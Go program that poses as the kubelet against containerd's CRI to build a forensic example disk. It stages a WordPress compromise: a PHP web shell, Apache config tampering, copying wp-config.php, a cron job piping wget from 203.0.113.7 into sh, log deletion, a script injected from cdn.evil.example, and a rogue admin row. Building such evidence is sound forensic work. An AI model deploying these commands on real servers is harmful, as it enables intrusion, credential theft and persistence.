// Command wpscenario plays the part of the kubelet against containerd's CRI
// plugin to build the wordpress-node example: it creates two pods the way the
// kubelet does (pod directories, sandboxes, containers with Kubernetes labels
// and annotations, logs under /var/log/pods), restarts a crashing sidecar,
// performs an attacker's file activity inside the running containers with
// ExecSync, stops everything, and writes the CRI view to -out.
//
// It runs inside the generator's private mount namespace, where /var is the
// STATE partition's var directory, so every host path it writes lands on the
// evidence disk just as the kubelet's would.
package main

import (
	"context"
	"encoding/json"
	"flag"
	"fmt"
	"log"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"time"

	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials/insecure"
	rt "k8s.io/cri-api/pkg/apis/runtime/v1"
)

const (
	imgPause     = "gke.gcr.io/pause:3.8"
	imgWordpress = "us-central1-docker.pkg.dev/acme-blog/web/wordpress:6.4.3-apache"
	imgExporter  = "quay.io/acme-blog/apache-exporter:v1.0.3"
	imgMySQL     = "us-central1-docker.pkg.dev/acme-blog/db/mysql:8.0.36"
)

type pod struct {
	name, namespace, uid string
	labels               map[string]string
	qos                  string // cgroup parent class: burstable, besteffort
	ports                []*rt.PortMapping
	id                   string // sandbox id once created
	cfg                  *rt.PodSandboxConfig
}

type container struct {
	pod            *pod
	name, image    string
	attempt        uint32
	envs           map[string]string
	emptyDirs      map[string]string // volume name -> container path
	termMsgID      string            // kubelet's random name for the termination-log file
	oomScoreAdj    int64
	ports          string // io.kubernetes.container.ports annotation, "" for none
	id             string
	hash           string
	exitCodeWanted *int32
}

type client struct {
	rs      rt.RuntimeServiceClient
	kubelet string // kubelet root, /var/lib/kubelet
	logRoot string // /var/log
	out     string
	created []*container
	events  []string
}

func main() {
	endpoint := flag.String("endpoint", "/run/containerd/containerd.sock", "containerd socket")
	out := flag.String("out", "", "directory for the CRI view (pods.txt, containers.txt, JSON per object)")
	flag.Parse()
	if *out == "" {
		log.Fatal("wpscenario: -out is required")
	}
	ctx, cancel := context.WithTimeout(context.Background(), 5*time.Minute)
	defer cancel()
	conn, err := grpc.NewClient("unix://"+*endpoint, grpc.WithTransportCredentials(insecure.NewCredentials()))
	if err != nil {
		log.Fatalf("wpscenario: dial: %v", err)
	}
	defer conn.Close()
	c := &client{rs: rt.NewRuntimeServiceClient(conn), kubelet: "/var/lib/kubelet", logRoot: "/var/log", out: *out}
	if err := c.run(ctx); err != nil {
		log.Fatalf("wpscenario: %v", err)
	}
}

func (c *client) logf(format string, args ...any) {
	msg := fmt.Sprintf(format, args...)
	c.events = append(c.events, time.Now().UTC().Format(time.RFC3339Nano)+" "+msg)
	log.Print(msg)
}

func (c *client) run(ctx context.Context) error {
	v, err := c.rs.Version(ctx, &rt.VersionRequest{Version: "v1"})
	if err != nil {
		return fmt.Errorf("version: %w", err)
	}
	c.logf("runtime %s %s (CRI %s)", v.RuntimeName, v.RuntimeVersion, v.RuntimeApiVersion)

	mysql := &pod{name: "mysql-0", namespace: "blog", uid: "2b9d4f6e-1a3c-4e5f-8d7b-6c5a4b3e2d1f", qos: "burstable",
		labels: map[string]string{"app": "mysql", "controller-revision-hash": "mysql-5f7c9d6b8d",
			"statefulset.kubernetes.io/pod-name": "mysql-0"},
		ports: []*rt.PortMapping{{Protocol: rt.Protocol_TCP, ContainerPort: 3306}}}
	wp := &pod{name: "wordpress-6d8f7b9c5-q2lzx", namespace: "blog", uid: "7c1e4b2a-5d3f-4e8a-9b6c-2f1a0d9e8c7b",
		qos:    "burstable",
		labels: map[string]string{"app": "wordpress", "tier": "frontend", "pod-template-hash": "6d8f7b9c5"},
		ports: []*rt.PortMapping{{Protocol: rt.Protocol_TCP, ContainerPort: 8080},
			{Protocol: rt.Protocol_TCP, ContainerPort: 9117}}}

	mysqlC := &container{pod: mysql, name: "mysql", image: imgMySQL, termMsgID: "5c2e8a1f", oomScoreAdj: 969,
		hash: "3b6f9d21", ports: `[{"name":"mysql","containerPort":3306,"protocol":"TCP"}]`,
		envs: map[string]string{"MYSQL_DATABASE": "wordpress", "MYSQL_USER": "wordpress"}}
	web := &container{pod: wp, name: "wordpress", image: imgWordpress, termMsgID: "9e4b7c3d", oomScoreAdj: 937,
		hash: "c7a1e5f0", ports: `[{"name":"http","containerPort":8080,"protocol":"TCP"}]`,
		envs: map[string]string{"WORDPRESS_DB_HOST": "mysql.blog.svc.cluster.local", "WORDPRESS_DB_NAME": "wordpress",
			"WORDPRESS_DB_USER": "wordpress"},
		emptyDirs: map[string]string{"php-sessions": "/var/lib/php/sessions"}}
	exporter := &container{pod: wp, name: "apache-exporter", image: imgExporter, termMsgID: "1f6d2a9b",
		oomScoreAdj: 937, hash: "84d0b3e6", ports: `[{"name":"metrics","containerPort":9117,"protocol":"TCP"}]`}

	for _, p := range []*pod{mysql, wp} {
		if err := c.runPod(ctx, p); err != nil {
			return err
		}
	}
	for _, ct := range []*container{mysqlC, web, exporter} {
		if err := c.startContainer(ctx, ct); err != nil {
			return err
		}
	}
	time.Sleep(2 * time.Second)

	// The exporter cannot scrape mod_status and exits 2; the kubelet restarts
	// it once (attempt 1), and it fails the same way.
	if err := c.waitExit(ctx, exporter, 60*time.Second); err != nil {
		return err
	}
	time.Sleep(1 * time.Second)
	exporter1 := *exporter
	exporter1.attempt, exporter1.id = 1, ""
	if err := c.startContainer(ctx, &exporter1); err != nil {
		return err
	}
	if err := c.waitExit(ctx, &exporter1, 60*time.Second); err != nil {
		return err
	}

	if err := c.incident(ctx, web, mysqlC); err != nil {
		return err
	}
	time.Sleep(1 * time.Second)

	for _, ct := range []*container{web, mysqlC} {
		c.logf("StopContainer %s (%s)", ct.name, ct.id)
		if _, err := c.rs.StopContainer(ctx, &rt.StopContainerRequest{ContainerId: ct.id, Timeout: 10}); err != nil {
			return fmt.Errorf("stop %s: %w", ct.name, err)
		}
	}
	for _, p := range []*pod{wp, mysql} {
		c.logf("StopPodSandbox %s/%s (%s)", p.namespace, p.name, p.id)
		if _, err := c.rs.StopPodSandbox(ctx, &rt.StopPodSandboxRequest{PodSandboxId: p.id}); err != nil {
			return fmt.Errorf("stop pod %s: %w", p.name, err)
		}
	}
	return c.dump(ctx, []*pod{mysql, wp})
}

// incident is the attacker's activity. In the story the web shell ran these
// commands as www-data through apache; here ExecSync runs them in the same
// container, and ownership is set the way apache would have left it.
func (c *client) incident(ctx context.Context, web, db *container) error {
	steps := []struct{ what, script string }{
		{"recon: requests to wp-login.php and xmlrpc.php (logged by the web server)",
			`wget -q -O /dev/null -U 'Mozilla/5.0 zgrab' http://127.0.0.1:8080/wp-login.php; ` +
				`wget -q -O /dev/null -U 'Mozilla/5.0 zgrab' http://127.0.0.1:8080/xmlrpc.php; true`},
		{"drop web shell wp-content/uploads/shell.php (owned by www-data, mtime copied from .htaccess) and a hardlink to it",
			`set -e; cd /var/www/html/wp-content/uploads
cat > shell.php <<'EOF'
<?php
// WSO-style minimal shell
if (isset($_REQUEST['cmd'])) { echo '<pre>'; system($_REQUEST['cmd']); echo '</pre>'; }
?>
EOF
chown 33:33 shell.php; chmod 0644 shell.php; touch -r .htaccess shell.php
ln shell.php 2024/01/thumb-150x150.php`},
		{"use the shell (request logged)",
			`wget -q -O /dev/null 'http://127.0.0.1:8080/wp-content/uploads/shell.php?cmd=id'; true`},
		{"edit config: make apache run .jpg files as PHP, remove the uploads PHP ban, open uploads/.htaccess",
			`set -e
printf '\n<FilesMatch "\\.jpg$">\n\tSetHandler application/x-httpd-php\n</FilesMatch>\n' >> /etc/apache2/apache2.conf
rm /etc/apache2/conf-enabled/wordpress.conf
sed -i 's/deny from all/allow from all/' /var/www/html/wp-content/uploads/.htaccess`},
		{"steal credentials: copy wp-config.php to /tmp/.wpc",
			`cp /var/www/html/wp-config.php /tmp/.wpc`},
		{"persistence: crontab for www-data",
			`set -e; mkdir -p /var/spool/cron/crontabs
echo '*/5 * * * * wget -q -O- http://203.0.113.7/u.sh | sh' > /var/spool/cron/crontabs/www-data
chown 33:33 /var/spool/cron/crontabs/www-data; chmod 0600 /var/spool/cron/crontabs/www-data`},
		{"cover tracks: delete /var/log/apache2/access.log (a file from an image layer)",
			`rm /var/log/apache2/access.log`},
		{"deface cache: rm -rf and recreate wp-content/cache (becomes an opaque directory)",
			`set -e; cd /var/www/html/wp-content; rm -rf cache; mkdir cache; chown 33:33 cache
echo '<html><head><script src="https://cdn.evil.example/x.js"></script></head><body>cached home page</body></html>' > cache/page-home.html
chown 33:33 cache/page-home.html`},
	}
	for _, s := range steps {
		if err := c.exec(ctx, web, s.what, s.script); err != nil {
			return err
		}
		time.Sleep(1100 * time.Millisecond) // distinct mtimes per step
	}
	// With the stolen DB password the attacker added an admin user: mysqld
	// writes the row to the tablespace and the binary log.
	return c.exec(ctx, db, "rogue admin: mysqld appends to wordpress/wp_users.ibd and binlog.000002",
		`set -e; cd /var/lib/mysql
printf "INSERT INTO wp_users (user_login,user_pass,user_email) VALUES ('wp-maint','\$P\$Bx9f','wp-maint@evil.example')" >> binlog.000002
printf 'wp-maint\0wp-maint@evil.example\0' | dd of=wordpress/wp_users.ibd bs=1 seek=20480 conv=notrunc 2>/dev/null`)
}

func (c *client) exec(ctx context.Context, ct *container, what, script string) error {
	r, err := c.rs.ExecSync(ctx, &rt.ExecSyncRequest{ContainerId: ct.id, Cmd: []string{"/bin/sh", "-c", script},
		Timeout: 20})
	if err != nil {
		return fmt.Errorf("exec in %s (%s): %w", ct.name, what, err)
	}
	if r.ExitCode != 0 {
		return fmt.Errorf("exec in %s (%s): exit %d: %s%s", ct.name, what, r.ExitCode, r.Stdout, r.Stderr)
	}
	c.logf("ExecSync %s (%s): %s", ct.name, ct.id[:12], what)
	return nil
}

// runPod prepares the pod directory as the kubelet does and runs the sandbox.
func (c *client) runPod(ctx context.Context, p *pod) error {
	podDir := filepath.Join(c.kubelet, "pods", p.uid)
	for _, d := range []string{"containers", "plugins", "volumes"} {
		if err := os.MkdirAll(filepath.Join(podDir, d), 0o750); err != nil {
			return err
		}
	}
	hosts := fmt.Sprintf("# Kubernetes-managed hosts file.\n127.0.0.1\tlocalhost\n::1\tlocalhost ip6-localhost ip6-loopback\n"+
		"fe00::0\tip6-localnet\nfe00::0\tip6-mcastprefix\nfe00::1\tip6-allnodes\nfe00::2\tip6-allrouters\n%s\t%s\n",
		"10.8.0.0", p.name) // the pod IP is not known yet; the kubelet rewrites it, we keep a placeholder
	if err := os.WriteFile(filepath.Join(podDir, "etc-hosts"), []byte(hosts), 0o644); err != nil {
		return err
	}
	sa := filepath.Join(podDir, "volumes", "kubernetes.io~projected", "kube-api-access-"+p.uid[:5])
	if err := os.MkdirAll(sa, 0o755); err != nil {
		return err
	}
	for name, body := range map[string]string{
		"namespace": p.namespace,
		"ca.crt":    "-----BEGIN CERTIFICATE-----\n(placeholder cluster CA for the example)\n-----END CERTIFICATE-----\n",
		"token":     "placeholder-service-account-token-not-a-secret",
	} {
		if err := os.WriteFile(filepath.Join(sa, name), []byte(body), 0o644); err != nil {
			return err
		}
	}
	logDir := filepath.Join(c.logRoot, "pods", p.namespace+"_"+p.name+"_"+p.uid)
	if err := os.MkdirAll(logDir, 0o755); err != nil {
		return err
	}
	labels := map[string]string{
		"io.kubernetes.pod.name":      p.name,
		"io.kubernetes.pod.namespace": p.namespace,
		"io.kubernetes.pod.uid":       p.uid,
	}
	for k, v := range p.labels {
		labels[k] = v
	}
	p.cfg = &rt.PodSandboxConfig{
		Metadata:     &rt.PodSandboxMetadata{Name: p.name, Uid: p.uid, Namespace: p.namespace, Attempt: 0},
		Hostname:     p.name,
		LogDirectory: logDir,
		DnsConfig: &rt.DNSConfig{Servers: []string{"10.12.0.10"},
			Searches: []string{p.namespace + ".svc.cluster.local", "svc.cluster.local", "cluster.local",
				"c.acme-blog.internal", "google.internal"},
			Options: []string{"ndots:5"}},
		PortMappings: p.ports,
		Labels:       labels,
		Annotations: map[string]string{
			"kubernetes.io/config.seen":   "2024-03-02T11:40:07.512331204Z",
			"kubernetes.io/config.source": "api",
		},
		Linux: &rt.LinuxPodSandboxConfig{
			CgroupParent: fmt.Sprintf("/kubepods/%s/pod%s", p.qos, p.uid),
			SecurityContext: &rt.LinuxSandboxSecurityContext{
				NamespaceOptions: &rt.NamespaceOption{Network: rt.NamespaceMode_POD, Pid: rt.NamespaceMode_CONTAINER,
					Ipc: rt.NamespaceMode_POD},
				Seccomp: &rt.SecurityProfile{ProfileType: rt.SecurityProfile_Unconfined},
			},
			Sysctls: map[string]string{},
		},
	}
	r, err := c.rs.RunPodSandbox(ctx, &rt.RunPodSandboxRequest{Config: p.cfg})
	if err != nil {
		return fmt.Errorf("RunPodSandbox %s: %w", p.name, err)
	}
	p.id = r.PodSandboxId
	c.logf("RunPodSandbox %s/%s -> %s", p.namespace, p.name, p.id)
	return nil
}

var maskedPaths = []string{"/proc/acpi", "/proc/kcore", "/proc/keys", "/proc/latency_stats", "/proc/timer_list",
	"/proc/timer_stats", "/proc/sched_debug", "/proc/scsi", "/sys/firmware", "/sys/devices/virtual/powercap"}
var readonlyPaths = []string{"/proc/asound", "/proc/bus", "/proc/fs", "/proc/irq", "/proc/sys", "/proc/sysrq-trigger"}

func (c *client) startContainer(ctx context.Context, ct *container) error {
	p := ct.pod
	podDir := filepath.Join(c.kubelet, "pods", p.uid)
	termDir := filepath.Join(podDir, "containers", ct.name)
	if err := os.MkdirAll(termDir, 0o750); err != nil {
		return err
	}
	// The kubelet makes a fresh termination-log file per attempt.
	termID := ct.termMsgID
	if ct.attempt > 0 {
		termID = fmt.Sprintf("%s%d", ct.termMsgID[:7], ct.attempt)
	}
	termFile := filepath.Join(termDir, termID)
	if err := os.WriteFile(termFile, nil, 0o666); err != nil {
		return err
	}
	mounts := []*rt.Mount{}
	names := make([]string, 0, len(ct.emptyDirs))
	for n := range ct.emptyDirs {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		host := filepath.Join(podDir, "volumes", "kubernetes.io~empty-dir", n)
		if err := os.MkdirAll(host, 0o777); err != nil {
			return err
		}
		mounts = append(mounts, &rt.Mount{ContainerPath: ct.emptyDirs[n], HostPath: host})
	}
	mounts = append(mounts,
		&rt.Mount{ContainerPath: "/var/run/secrets/kubernetes.io/serviceaccount", Readonly: true,
			HostPath: filepath.Join(podDir, "volumes", "kubernetes.io~projected", "kube-api-access-"+p.uid[:5])},
		&rt.Mount{ContainerPath: "/etc/hosts", HostPath: filepath.Join(podDir, "etc-hosts")},
		&rt.Mount{ContainerPath: "/dev/termination-log", HostPath: termFile},
	)
	envs := []*rt.KeyValue{}
	keys := make([]string, 0, len(ct.envs))
	for k := range ct.envs {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		envs = append(envs, &rt.KeyValue{Key: k, Value: []byte(ct.envs[k])})
	}
	envs = append(envs,
		&rt.KeyValue{Key: "KUBERNETES_SERVICE_HOST", Value: []byte("10.12.0.1")},
		&rt.KeyValue{Key: "KUBERNETES_SERVICE_PORT", Value: []byte("443")},
		&rt.KeyValue{Key: "KUBERNETES_PORT", Value: []byte("tcp://10.12.0.1:443")})
	annotations := map[string]string{
		"io.kubernetes.container.hash":                     ct.hash,
		"io.kubernetes.container.restartCount":             fmt.Sprint(ct.attempt),
		"io.kubernetes.container.terminationMessagePath":   "/dev/termination-log",
		"io.kubernetes.container.terminationMessagePolicy": "File",
		"io.kubernetes.pod.terminationGracePeriod":         "30",
	}
	if ct.ports != "" {
		annotations["io.kubernetes.container.ports"] = ct.ports
	}
	cfg := &rt.ContainerConfig{
		Metadata: &rt.ContainerMetadata{Name: ct.name, Attempt: ct.attempt},
		Image:    &rt.ImageSpec{Image: ct.image},
		Envs:     envs,
		Mounts:   mounts,
		Labels: map[string]string{
			"io.kubernetes.container.name": ct.name,
			"io.kubernetes.pod.name":       p.name,
			"io.kubernetes.pod.namespace":  p.namespace,
			"io.kubernetes.pod.uid":        p.uid,
		},
		Annotations: annotations,
		LogPath:     fmt.Sprintf("%s/%d.log", ct.name, ct.attempt),
		Linux: &rt.LinuxContainerConfig{
			Resources: &rt.LinuxContainerResources{CpuPeriod: 100000, CpuShares: 102, CpuQuota: 50000,
				MemoryLimitInBytes: 536870912, OomScoreAdj: ct.oomScoreAdj},
			SecurityContext: &rt.LinuxContainerSecurityContext{
				NamespaceOptions: &rt.NamespaceOption{Network: rt.NamespaceMode_POD,
					Pid: rt.NamespaceMode_CONTAINER, Ipc: rt.NamespaceMode_POD},
				Seccomp:       &rt.SecurityProfile{ProfileType: rt.SecurityProfile_Unconfined},
				MaskedPaths:   maskedPaths,
				ReadonlyPaths: readonlyPaths,
			},
		},
	}
	r, err := c.rs.CreateContainer(ctx, &rt.CreateContainerRequest{PodSandboxId: p.id, Config: cfg, SandboxConfig: p.cfg})
	if err != nil {
		return fmt.Errorf("CreateContainer %s: %w", ct.name, err)
	}
	ct.id = r.ContainerId
	// The kubelet's /var/log/containers symlink.
	link := filepath.Join(c.logRoot, "containers", fmt.Sprintf("%s_%s_%s-%s.log", p.name, p.namespace, ct.name, ct.id))
	if err := os.MkdirAll(filepath.Dir(link), 0o755); err != nil {
		return err
	}
	target := filepath.Join(p.cfg.LogDirectory, cfg.LogPath)
	if err := os.Symlink(target, link); err != nil {
		return err
	}
	if _, err := c.rs.StartContainer(ctx, &rt.StartContainerRequest{ContainerId: ct.id}); err != nil {
		return fmt.Errorf("StartContainer %s: %w", ct.name, err)
	}
	c.logf("CreateContainer+StartContainer %s/%s %s attempt %d -> %s", p.namespace, p.name, ct.name, ct.attempt, ct.id)
	c.created = append(c.created, ct)
	return nil
}

func (c *client) waitExit(ctx context.Context, ct *container, limit time.Duration) error {
	deadline := time.Now().Add(limit)
	for time.Now().Before(deadline) {
		s, err := c.rs.ContainerStatus(ctx, &rt.ContainerStatusRequest{ContainerId: ct.id})
		if err != nil {
			return fmt.Errorf("status %s: %w", ct.name, err)
		}
		if s.Status.State == rt.ContainerState_CONTAINER_EXITED {
			c.logf("container %s attempt %d exited with code %d (%s)", ct.name, ct.attempt, s.Status.ExitCode, s.Status.Reason)
			return nil
		}
		time.Sleep(500 * time.Millisecond)
	}
	return fmt.Errorf("container %s did not exit within %v", ct.name, limit)
}

// dump writes the CRI view: pods.txt and containers.txt (the columns the
// cos-node fixture uses), containers.tsv (with attempts and exit codes), the
// verbose status of every pod and container as crictl inspect prints it,
// and the event log.
func (c *client) dump(ctx context.Context, pods []*pod) error {
	if err := os.MkdirAll(c.out, 0o755); err != nil {
		return err
	}
	pl, err := c.rs.ListPodSandbox(ctx, &rt.ListPodSandboxRequest{})
	if err != nil {
		return err
	}
	sort.Slice(pl.Items, func(i, j int) bool { return pl.Items[i].Id < pl.Items[j].Id })
	var b strings.Builder
	podName := map[string]string{}
	for _, s := range pl.Items {
		podName[s.Id] = s.Metadata.Namespace + "/" + s.Metadata.Name
		fmt.Fprintf(&b, "%s %s/%s %s\n", s.Id, s.Metadata.Namespace, s.Metadata.Name, s.State)
		st, err := c.rs.PodSandboxStatus(ctx, &rt.PodSandboxStatusRequest{PodSandboxId: s.Id, Verbose: true})
		if err != nil {
			return err
		}
		if err := writeInspect(filepath.Join(c.out, "sandbox-"+s.Id+".json"), st.Status, st.Info); err != nil {
			return err
		}
	}
	if err := os.WriteFile(filepath.Join(c.out, "pods.txt"), []byte(b.String()), 0o644); err != nil {
		return err
	}
	cl, err := c.rs.ListContainers(ctx, &rt.ListContainersRequest{})
	if err != nil {
		return err
	}
	sort.Slice(cl.Containers, func(i, j int) bool { return cl.Containers[i].Id < cl.Containers[j].Id })
	b.Reset()
	var tsv strings.Builder
	tsv.WriteString("container_id\tsandbox_id\tpod\tname\tattempt\tstate\texit_code\treason\timage\tlog_path\n")
	for _, ct := range cl.Containers {
		fmt.Fprintf(&b, "%s %s %s %s %s\n", ct.Id, ct.PodSandboxId, ct.Metadata.Name, ct.State, ct.Image.Image)
		st, err := c.rs.ContainerStatus(ctx, &rt.ContainerStatusRequest{ContainerId: ct.Id, Verbose: true})
		if err != nil {
			return err
		}
		s := st.Status
		fmt.Fprintf(&tsv, "%s\t%s\t%s\t%s\t%d\t%s\t%d\t%s\t%s\t%s\n", ct.Id, ct.PodSandboxId, podName[ct.PodSandboxId],
			s.Metadata.Name, s.Metadata.Attempt, s.State, s.ExitCode, s.Reason, s.Image.Image, s.LogPath)
		if err := writeInspect(filepath.Join(c.out, "container-"+ct.Id+".json"), s, st.Info); err != nil {
			return err
		}
	}
	for name, body := range map[string]string{
		"containers.txt": b.String(),
		"containers.tsv": tsv.String(),
		"events.txt":     strings.Join(c.events, "\n") + "\n",
	} {
		if err := os.WriteFile(filepath.Join(c.out, name), []byte(body), 0o644); err != nil {
			return err
		}
	}
	return nil
}

// writeInspect writes {"info": ..., "status": ...} as crictl inspect does:
// the verbose "info" entry is JSON itself and is embedded parsed.
func writeInspect(path string, status any, info map[string]string) error {
	obj := map[string]any{"status": status}
	if raw, ok := info["info"]; ok {
		obj["info"] = json.RawMessage(raw)
	}
	data, err := json.MarshalIndent(obj, "", "  ")
	if err != nil {
		return err
	}
	return os.WriteFile(path, append(data, '\n'), 0o644)
}
